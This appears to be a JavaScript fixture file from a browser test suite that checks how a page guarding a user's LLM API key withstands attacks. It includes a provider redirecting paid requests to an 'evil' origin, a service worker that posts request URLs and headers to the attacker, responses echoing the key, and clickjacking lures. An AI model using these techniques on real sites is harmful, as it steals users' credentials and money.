/** What sessions differ in, beside their attacks. Rows with the same setup share a session; `name` tells them apart. */
import { KEY, seen, until, useFeature } from './person.mjs';

/** One clipboard for the whole browser: nobody else may write it meanwhile, and nobody else does. */
async function copyKey({ context, site }) {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: site.origin });
  const page = await context.newPage();
  await page.goto(`${site.origin}/blank`);
  await page.evaluate((key) => navigator.clipboard.writeText(key), KEY);
  await page.close();
  await context.clearPermissions();
}

export const plain = { name: 'plain' };
export const pasting = { name: 'pasting', typing: 'paste', before: copyKey };
/** Every native is watched: slow, and still it must work. */
export const crowded = { name: 'crowded', patience: 40_000 };
export const configured = { name: 'configured' };

/**
 * Puts a provider that misbehaves before the simulator: `answer` may answer a request in its place.
 * @param {(request: object) => object | null} answer
 */
export function misbehave(session, answer) {
  const { simulator } = session.site;
  const handle = simulator.handle;
  simulator.handle = (request) => (request.method === 'OPTIONS' ? null : answer(request)) ?? handle(request);
}

const OPEN = { 'access-control-allow-origin': '*', 'access-control-expose-headers': '*' };
export const replyWith = (status, body, headers = {}) => ({ status, headers: { ...OPEN, ...headers }, body });

/** From the attack on, the provider sends every paid request elsewhere. */
export const redirecting = {
  name: 'redirecting',
  before: (session) =>
    misbehave(session, ({ path }) =>
      path.endsWith('/chat/completions')
        ? replyWith(307, '', { location: `${session.site.evil.origin}/${session.rows[0].id}/moved` })
        : null,
    ),
};

export const strictly = { name: 'strict', policy: 'strict', patience: 6000, leaky: { policy: 'none', leaky: 'frame' } };
export const typesOpen = { name: 'types-open', policy: 'types-open' };
export const twiceLoaded = { name: 'messages' };
/** Long enough for a frame to seem silent. */
export const downgraded = { name: 'downgraded', patience: 15_000 };
export const frameBlocked = { name: 'frame-blocked', policy: 'without-hash', leaky: { policy: 'none' } };

/** A worker of the attacker's own: reads what it may of every request that it is asked for, and sends it home. */
const WORKER = (id) => `
addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {
  const { url, headers, method } = event.request;
  if (method === 'POST' && new URL(url).origin === location.origin) return;
  fetch('/${id}', { method: 'POST', body: [url, ...headers.values()].join(' ') });
});`;
export const withoutWorkers = {
  name: 'without-workers',
  policy: 'without-workers',
  files: { '/worker.js': () => WORKER('service-worker') },
  leaky: { policy: 'none' },
};

const isPaid = ({ path }) => path.endsWith('/chat/completions');
/** The key of a request, as a provider that talks too much would repeat it. */
const keyOf = ({ headers }) => headers.authorization?.replace('Bearer ', '');
const KINDS = { 'content-type': 'application/json' };

/** From connecting on, every paid request is answered so. */
const echoing = (name, answer, more = {}) => ({
  name,
  before: (session) => misbehave(session, (request) => (isPaid(request) ? answer(keyOf(request)) : null)),
  ...more,
});
const envelope = (code, key) =>
  JSON.stringify({ error: { code, message: `User of ${key} not found`, metadata: { raw: key } } });
export const echo401 = echoing('echo-401', (key) =>
  replyWith(401, envelope(401, key), { ...KINDS, 'x-generation-id': key, 'x-provider-name': key }),
);
export const echo400 = echoing('echo-400', (key) => replyWith(400, envelope(400, key), KINDS));
export const echoPage = echoing('echo-page', (key) =>
  replyWith(502, `<h1>${key}</h1>`, { 'content-type': 'text/html' }),
);
const eventStream = (key) =>
  `data: ${JSON.stringify({ id: 'gen-1-x', choices: [{ index: 0, delta: { content: 'Bridges ' }, finish_reason: null }] })}\n\n` +
  `data: ${JSON.stringify({ id: 'gen-1-x', error: { code: 502, message: `upstream said ${key}` }, choices: [{ index: 0, delta: { content: '' }, finish_reason: 'error' }] })}\n\n`;
export const echoStream = echoing('echo-stream', (key) =>
  replyWith(200, eventStream(key), { 'content-type': 'text/event-stream' }),
);

/** The connection breaks in the middle of an answer; the careless page is told by an error instead. */
export const cutting = {
  name: 'cutting',
  before: ({ site }) => void site.simulator.faults.add({ fault: { cutAfter: 3 } }),
  leaky: { before: echo400.before },
};

/** A session in which much goes wrong: answered, refused, cut, and at last the key is no longer known. */
export const troubled = {
  name: 'troubled',
  async then(session) {
    const { faults, keys } = session.site.simulator;
    for (const fault of [{ error: 'moderated' }, { cutAfter: 2 }, { error: 'bad-gateway' }, { eventError: 'first' }]) {
      faults.add({ fault, times: 1 });
      await useFeature(session.page);
      faults.clear();
    }
    await useFeature(session.page, { tools: [{ type: 'openrouter:web_search' }] });
    keys.set({ key: KEY, revoked: true });
    await useFeature(session.page);
  },
};

/** A small ceiling, a model with one plain price, and an app that leaves the spending to the attack. */
export const PLAIN_MODEL = 'brook/river-1';
const choosePlain = ({ page }) => page.evaluate((id) => globalThis.byom.chooseModel('worker', id), PLAIN_MODEL);
export const poor = { name: 'poor', ceiling: '0.004', uses: false, connected: choosePlain };
/** The page may not survive it: the person does not wait long. */
export const hasty = { ...poor, name: 'hasty', patience: 5000 };
/** Enough for everything to be tried: nothing is refused for want of money. */
export const roomy = { ...poor, name: 'roomy', ceiling: '1.00' };
/** Room for five holds of the burning call, and not for six. */
export const five = { ...poor, name: 'five', ceiling: '0.012' };
export const monthly = { ...poor, name: 'monthly', period: 'month' };
/** A provider that charges each repeat of one idempotency key, and whole answers for what was stopped. */
export const repeating = {
  ...poor,
  name: 'repeating',
  ceiling: '0.016',
  settings: { chargeRepeats: 'each', tokensPerSecond: 400 },
};

/** What was typed or copied is the person's to lose: the clipboard was granted to the page, for good reasons of its own. */
export const granted = {
  ...pasting,
  name: 'granted',
  async before(session) {
    await copyKey(session);
    await session.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: session.site.origin });
  },
};

/** Where the vault's confirming button stands on the screen, whatever lies over it; null: nowhere. */
async function placeOfConfirm({ page }) {
  for (const frame of page.frames()) {
    const box = await Promise.race([
      frame
        .locator('[data-view=ceiling] [data-action=confirm]')
        .boundingBox({ timeout: 300 })
        .catch(() => null),
      new Promise((resolve) => setTimeout(() => resolve(null), 400)),
    ]);
    if (box) return box;
  }
  return null;
}

/** Beyond the half second and the two seconds after which a covered button asks for its second step. */
const LURED_MILLISECONDS = 3500;
/** A hand holds a button or a key down for a moment. */
const HELD = { delay: 120 };

/** The person is lured: clicks again and again where the bait is, which is where the button is. */
async function clickTheBait(session) {
  const end = Date.now() + LURED_MILLISECONDS;
  for (let [clicks, misses] = [0, 0]; Date.now() < end && misses < 3;) {
    const box = await placeOfConfirm(session);
    if (box) await session.page.mouse.click(box.x + box.width / 2, box.y + box.height / 2, HELD);
    if (box) clicks++;
    else if (clicks > 0) misses++;
  }
}

/** The person goes on pressing keys, meant for something else. */
const pressing = (keys) => async (session) => {
  const end = Date.now() + LURED_MILLISECONDS;
  while (Date.now() < end) {
    for (const key of keys) await session.page.keyboard.press(key, HELD);
  }
};

const lured = (name, then) => ({ ...poor, name, then });
export const lureClicks = lured('lure-clicks', clickTheBait);
export const lureEnter = lured('lure-enter', pressing(['Enter']));
export const lureKeys = lured('lure-keys', pressing(['Tab', 'Enter', 'Tab', 'Space']));

/** Told that the key was lost, the person types it once more, into whatever asks. */
export async function typeAgain(session) {
  const field = await seen(session, '[data-field=key]');
  if (!field) return;
  await field.click();
  await session.page.keyboard.type(KEY);
}

/** What the confirming button says in the vault, or on the careless page. */
export async function readButton(session) {
  const button = await until(() => seen(session, '[data-view=ceiling] [data-action=confirm]'), 5000, 'a button');
  session.button = await button.innerText();
}

/** What the vault says soon after the last letter was typed. */
export async function readWords(session) {
  const texts = () =>
    session.page.frames().map((frame) =>
      frame
        .locator('body')
        .innerText({ timeout: 500 })
        .catch(() => ''),
    );
  const said = async () => /focus left this field/.test((session.words = (await Promise.all(texts())).join('\n')));
  await until(said, 2500, 'a word').catch(() => undefined);
}
